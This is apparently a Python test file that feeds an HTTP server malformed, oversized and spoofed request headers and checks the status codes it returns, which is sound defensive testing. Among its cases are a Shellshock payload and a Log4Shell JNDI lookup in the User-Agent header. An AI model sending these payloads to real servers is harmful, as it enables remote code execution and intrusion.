"""Headers: many, huge, twice, folded, with control characters, and lying about who asks."""

from tests.hostile.case import MARKER, NAMED, Case, request


def _with(*headers: str) -> bytes:
    return request(body=NAMED, headers=headers)


def cases() -> list[Case]:
    broken = {
        "no colon": "X-Broken",
        "a blank before the colon": "X-Broken : 1",
        "a tab before the colon": "X-Broken\t: 1",
        "no name": ": 1",
        "a blank in the name": "X Broken: 1",
        "a NUL in the name": "X\x00: 1",
        "a NUL in the value": "X: a\x00b",
        "a control character in the name": "X\x01: 1",
        "a bracket in the name": "X[]: 1",
        "latin-1 in the name": "X\xe9: 1",
        "a bare CR in the value": "X: a\rY: b",
        "a blank line in front": " X: 1",
    }
    undecided = {
        "a folded value": "X: a\r\n b",
        "a folded value with a tab": "X: a\r\n\tb",
        "a control character in the value": "X: a\x01b",
        "an escape sequence": "X: \x1b[31m",
        "DEL in the value": "X: a\x7fb",
        "a bare LF": "X: a\nY: b",
        "a second Host": "Host: example.invalid",
        "an unknown expectation": "Expect: 200-maybe",
        "Connection naming Content-Length": "Connection: Content-Length",
    }
    large = {
        "a value of 100 KB": "X: " + "a" * 100_000,
        "a value of 2 MB": "X: " + "a" * 2_000_000,
        "a name of 100 KB": "a" * 100_000 + ": 1",
        "10 000": "\r\n".join(f"X-{number}: {number}" for number in range(10_000)),
        "20 000 of the same": "\r\n".join(["X: 1"] * 20_000),
        "a value of 20 MB": "X: " + "a" * 20_000_000,
    }
    served = {
        "an upgrade to HTTP/2": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
        "an upgrade to websocket": (
            "Connection: Upgrade\r\nUpgrade: websocket\r\n"
            "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
        ),
        "an upgrade to something": "Connection: Upgrade\r\nUpgrade: foo/2",
        "an empty value": "X:",
        "blanks around the value": "X:  \t a \t ",
        "latin-1 in the value": "X: \xe9\xff",
        "1 000": "\r\n".join(f"X-{number}: {number}" for number in range(1000)),
        "a value of 8 000 bytes": "X: " + "a" * 8000,
        "a long cookie": "Cookie: a=" + "b" * 8000,
        "a bad cookie": 'Cookie: ;;==,"\\',
        "an authorization": f"Authorization: Bearer {MARKER}",
        "a bad authorization": "Authorization: Basic %%%",
        "a forwarded host": f"X-Forwarded-Host: {MARKER}\r\nForwarded: host={MARKER}",
        "a forwarded prefix": f"X-Forwarded-Prefix: /{MARKER}\r\nX-Script-Name: /{MARKER}\r\nSCRIPT_NAME: /{MARKER}",
        "a rewritten path": f"X-Original-URL: /{MARKER}\r\nX-Rewrite-URL: /{MARKER}",
        "a bad forwarded address": "X-Forwarded-For: not, an, address\r\nX-Forwarded-Proto: gopher",
        "a bad trace": "Traceparent: 00-zz-zz-zz",
        "a trace of zeros": f"Traceparent: 00-{'0' * 32}-{'0' * 16}-01",
        "a long trace": "Traceparent: " + "0" * 5000,
        "a bad cloud trace": "X-Cloud-Trace-Context: %/;o=" + MARKER,
        "a bad execution id": "Function-Execution-Id: " + MARKER + "{}\"'",
        "an origin": f"Origin: https://{MARKER}.invalid",
        "the origin null": "Origin: null",
        "a range": "Range: bytes=0-1,2-3,-1",
        "a condition": 'If-None-Match: *\r\nIf-Modified-Since: nonsense\r\nIf-Match: "x"',
        "a bad date": "Date: yesterday",
        "shellshock": "User-Agent: () { :; }; echo " + MARKER,
        "jndi": "User-Agent: ${jndi:ldap://x.invalid/a}",
        "a proxy": "Proxy: http://x.invalid\r\nProxy-Connection: keep-alive",
        "hop-by-hop": "TE: trailers\r\nKeep-Alive: timeout=9999",
        "an expectation that is met": "Expect: 100-continue",
        "Connection: close": "Connection: close",
        "Connection: keep-alive": "Connection: keep-alive",
        "a bad Connection": "Connection: ,,;;" + MARKER,
    }
    upgrade = _with("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk")
    return [
        Case("header: an upgrade, with a request behind it", (upgrade + _with(),), (200, 200)),
        *(Case(f"header: {name}", (_with(line),), (400,), until_closed=True) for name, line in broken.items()),
        *(Case(f"header: {name}", (_with(line),), until_closed=True) for name, line in undecided.items()),
        *(Case(f"header: {name}, too large", (_with(line),), (431,)) for name, line in large.items()),
        Case("header: one that never ends", (b"GET /health HTTP/1.1\r\nX: ", *[b"a" * 1000] * 1000), (431,)),
        *(Case(f"header: {name}, served", (_with(line),), (200,)) for name, line in served.items()),
        Case(
            "header: a huge one on an unknown path",
            (request("GET", "/nothing", headers=("X: " + "a" * 60_000,)),),
            (404,),
        ),
        Case("header: a bad Host", (b"GET /health HTTP/1.1\r\nHost: a b/c@d\r\n\r\n",), (200,)),
        Case("header: an empty Host", (b"GET /health HTTP/1.1\r\nHost:\r\n\r\n",)),
        Case("header: a long Host", (b"GET /health HTTP/1.1\r\nHost: " + b"a" * 8000 + b"\r\n\r\n",)),
        Case("header: a Host with markup", (f"GET / HTTP/1.1\r\nHost: <{MARKER}>\r\n\r\n".encode(),)),
    ]
